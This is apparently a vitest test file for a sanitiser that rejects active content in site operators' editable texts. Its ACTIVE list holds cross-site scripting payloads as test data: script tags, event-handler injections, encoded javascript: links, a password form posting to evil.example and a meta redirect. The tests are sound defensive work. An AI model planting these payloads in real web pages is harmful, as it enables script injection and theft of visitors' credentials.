/** Operators' texts: active content is refused, ordinary Markdown and HTML pass unchanged. */
import { expect, test } from "vitest";
import { activePartOf } from "./content.ts";
import { framedAddressOf } from "../address.ts";
import { parseOptions, validateOption } from "./options.ts";

const ACTIVE: readonly [string, string][] = [
  ["<script>alert(1)</script>", "<script>"],
  ["# Hello\n\n<ScRiPt src=//evil.example/x.js>", "<script>"],
  ["<iframe src=https://evil.example>", "<iframe>"],
  ["<svg/onload=alert(1)>", "<svg>"],
  ["<img src=x onerror=alert(1)>", "onerror="],
  ['<img src="x"onerror="alert(1)">', "onerror="],
  ['<img alt=">" onerror=alert(1) src=x>', "onerror="],
  ['<img alt=a"b title=">" onerror=alert(1) src=x>', "onerror="],
  ["<p/onmouseover = 'alert(1)'>", "onmouseover="],
  ['<a href="javascript:alert(1)">a</a>', "javascript:"],
  ['<a href=" JaVaScRiPt:alert(1)">a</a>', "javascript:"],
  ['<a href="java\nscript:alert(1)">a</a>', "javascript:"],
  ['<a href="&#106;avascript&#x3a;alert(1)">a</a>', "javascript:"],
  ['<a href="javascript&colon;alert(1)">a</a>', "javascript:"],
  ['<a href="data:text/html,<b>x</b>">a</a>', "data:"],
  ['<form action="https://evil.example"><input name="password"></form>', "<form>"],
  ["<style>body{display:none}</style>", "<style>"],
  ['<meta http-equiv="refresh" content="0;url=https://evil.example">', "<meta>"],
];

const HARMLESS = [
  "",
  "# Hello\n\n- one\n- [two](https://example.com/?on=1)\n\n`a < b` and `onclick`",
  '<div align="center"><h1>Hello</h1><img src="https://example.com/logo.png" alt="logo"></div>',
  '<a href="https://example.com/javascript/guide" target="_blank">guide</a>',
  "Prices fell on=Monday; see <b>below</b>.",
  "https://example.com/welcome",
];

test.each(ACTIVE)("%s is refused and the reason named", (text, found) => {
  expect(activePartOf(text)).toBe(found);
});

test.each(HARMLESS)("%s passes", (text) => {
  expect(activePartOf(text)).toBeUndefined();
});

test.each(["Notice", "HomePageContent", "About", "Footer"])(
  "%s takes no script on write, and shows none that is stored",
  (name) => {
    const options = parseOptions(new Map());
    expect(() => validateOption(name, "<script>1</script>", options)).toThrow("remove <script>");
    expect(validateOption(name, "<b>Hello</b>", options).normalised).toBe("<b>Hello</b>");
    expect(parseOptions(new Map([[name, "<script>1</script>"]]))[name as "Notice"]).toBe("");
  },
);

test("only a lone https address is framed", () => {
  expect(framedAddressOf(" https://example.com/welcome?a=1\n")?.href).toBe("https://example.com/welcome?a=1");
  for (const text of [
    "http://example.com",
    "https://example.com is our site",
    "https://",
    "javascript:alert(1)",
    "# Home",
  ]) {
    expect(framedAddressOf(text)).toBeUndefined();
  }
});
